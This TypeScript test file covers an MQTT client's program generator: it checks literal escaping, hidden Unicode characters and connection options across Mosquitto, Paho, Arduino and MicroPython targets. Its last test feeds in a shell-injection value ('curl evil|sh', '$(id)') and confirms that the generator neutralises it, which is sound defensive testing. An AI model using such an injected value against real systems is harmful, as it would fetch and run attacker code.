import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { newProfile, newSubscription, newTls } from '../profile/defaults.ts';
import { cString, jsString, pyBytes, pyString } from './literals.ts';
import { makeProgram } from './make-program.ts';
import { oneLine, programTargets, shells } from './program.ts';
import { programConnection } from './program-connection.ts';

/** What nobody sees in a program, or sees elsewhere than it stands. Tab and line end may stand in one. */
const unseen =
  /[[\p{Cc}\p{Cs}\p{Bidi_Control}\p{Default_Ignorable_Code_Point}\u2028\u2029\ufff9-\ufffb]--[\t\n]]/v;
const tricks = fc.constantFrom(
  ...['\u202e', '\u2066', '\u2069', '\u200b', '\u200d', '\ufe0f', '\ufeff', '\u061c', '\u3164', '\u{e0041}'],
  ...['\u0085', '\u009b', '\u001b', '\r', '\n', '\0', '\u2028', '\ud800', '"', "'", '\\', '%', 'a', ' ', '{'],
);
const anyText = fc.string({
  unit: fc.oneof(tricks, fc.string({ unit: 'binary', maxLength: 1 })),
  maxLength: 40,
});

const kinds = programTargets.flatMap((target) =>
  (target === 'mosquitto' ? shells : (['sh'] as const)).map((shell) => [target, shell] as const),
);

describe('literals', () => {
  it('of JavaScript come back', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const literal = jsString(text);
        expect(JSON.parse(literal)).toBe(text);
        expect(literal).not.toMatch(unseen);
        expect(literal).not.toMatch(/[\n\t]/);
      }),
    );
  });

  it('of Python and C++ hold printable ASCII only, and nothing ends them early', () => {
    fc.assert(
      fc.property(anyText, fc.uint8Array({ maxLength: 40 }), (text, bytes) => {
        for (const literal of [pyString(text), pyBytes(bytes), cString(bytes)]) {
          const body = literal.replace(/^b?"/, '').replace(/"$/, '');
          expect(body).toMatch(
            /^(?:[ !#-[\]-~]|\\(?:["\\]|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8}|[0-7]{3}))*$/,
          );
        }
        expect(cString(bytes)).not.toContain('??');
      }),
    );
  });
});

describe('comments', () => {
  it('stay one line that takes nothing along', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(oneLine(text)).not.toMatch(unseen);
        expect(oneLine(text)).not.toMatch(/[\\\n\t]/);
        expect(oneLine(text)).not.toContain('??/');
      }),
    );
  });
});

describe('programs', () => {
  it('are written of any connection and message, with nothing in them that is not seen', () => {
    const words = anyText;
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 30 }),
      anyText.map((text) => new Uint8Array(new TextEncoder().encode(text))),
    );
    fc.assert(
      fc.property(words, words, words, words, bytes, (host, user, topic, name, payload) => {
        const { will } = newProfile();
        const file = { ref: '1', fileName: name };
        const profile = newProfile({
          host,
          username: user,
          clientId: user,
          passwordRef: 'p',
          protocol: 'mqtts',
          tls: newTls({ ca: [file, file], certificate: file, key: file, serverName: name, alpn: [name] }),
          will: { ...will, enabled: true, topic, payload: host, contentType: name },
          subscriptions: [newSubscription(topic === '' ? '#' : topic, { qos: 2 })],
        });
        const properties = {
          contentType: name,
          responseTopic: topic,
          correlationData: payload,
          userProperties: [{ key: name, value: user }],
        };
        const message = { topic, payload, qos: 2, retain: true, properties } as const;
        for (const mqttVersion of ['3.1.1', '5.0'] as const) {
          const connection = programConnection({ ...profile, mqttVersion }, host);
          for (const task of [{ connection }, { connection, message }]) {
            for (const [target, shell] of kinds) {
              const { code } = makeProgram(target, task, shell);
              expect(code.endsWith('\n')).toBe(true);
              expect(code).not.toContain('undefined');
              expect(unseen.exec(code)?.[0], `${target} ${shell}`).toBeUndefined();
            }
          }
        }
      }),
      { numRuns: 200 },
    );
  });
});

describe('a connection', () => {
  const program = (target: Parameters<typeof makeProgram>[0], more: Parameters<typeof newProfile>[0]) =>
    makeProgram(target, {
      connection: programConnection(newProfile({ host: 'h', clientId: 'c1', ...more }), 'SECRET'),
    }).code;

  it('says to Mosquitto’s clients how long its session is kept', () => {
    const five = { mqttVersion: '5.0' } as const;
    expect(program('mosquitto', { ...five, clean: false, sessionExpiryInterval: 0 })).toContain('-c -x 0');
    expect(program('mosquitto', { ...five, clean: true, sessionExpiryInterval: 60 })).toMatch(/ -x 60 /);
    const nameless = program('mosquitto', { ...five, clean: false, clientId: '' });
    expect(nameless).not.toContain(' -c ');
    expect(nameless).toContain('without a client ID');
    expect(program('mosquitto', { mqttVersion: '3.1.1', clean: false })).not.toContain('-x');
  });

  it('says what Mosquitto’s clients do check', () => {
    const tls = newTls({ verify: false });
    expect(program('mosquitto', { protocol: 'mqtts', tls })).toContain('the check of the host name only');
    expect(program('paho', { protocol: 'mqtts', tls })).toContain('is not verified');
  });

  it('without keep alive goes as far as its target can', () => {
    expect(program('arduino', { keepAlive: 0 })).toContain('client.setKeepAlive(65535);');
    expect(program('arduino', { keepAlive: 0 })).toContain('cannot do without');
    expect(program('micropython', { keepAlive: 0 })).not.toContain('ping');
    expect(program('micropython', { keepAlive: 60 })).toContain('>= 30:');
  });

  it('gives umqtt its sign-in as it takes one', () => {
    const user = program('micropython', { username: 'ü', passwordRef: 'p' });
    expect(user).toContain('user=b"\\xc3\\xbc"');
    expect(user).toContain('password=b"SECRET"');
    expect(program('micropython', { username: '', passwordRef: 'p' })).toContain('password is left out');
  });

  it('leaves a will out that the app would not leave either', () => {
    const { will } = newProfile();
    const set = { ...will, enabled: true, topic: 'gone' };
    expect(program('mosquitto', { will: set })).toContain('--will-topic gone');
    const readOnly = program('mosquitto', { will: set, guard: 'readOnly' });
    expect(readOnly).not.toContain('--will');
    expect(readOnly).toContain('read-only');
    const wrong = program('mosquitto', { will: { ...set, topic: 'a/#' } });
    expect(wrong).not.toContain('--will');
    expect(wrong).toContain('its topic is not valid');
  });

  it('holds no password that its sign-in does not use', () => {
    const credentials = { kind: 'azureX509', deviceId: 'd', moduleId: '' } as const;
    expect(program('mosquitto', { credentials, passwordRef: 'left' })).not.toContain('SECRET');
  });

  it('has nothing in its notes that a shell would run', () => {
    const tls = newTls({ serverName: 'x; curl evil|sh $(id) `id` #' });
    const [note = ''] = program('mosquitto', { protocol: 'mqtts', tls })
      .split('\n')
      .filter((line) => line.includes('curl'));
    expect(note).toMatch(/^# /);
    expect(note).not.toMatch(/[;|$`()]/);
  });
});
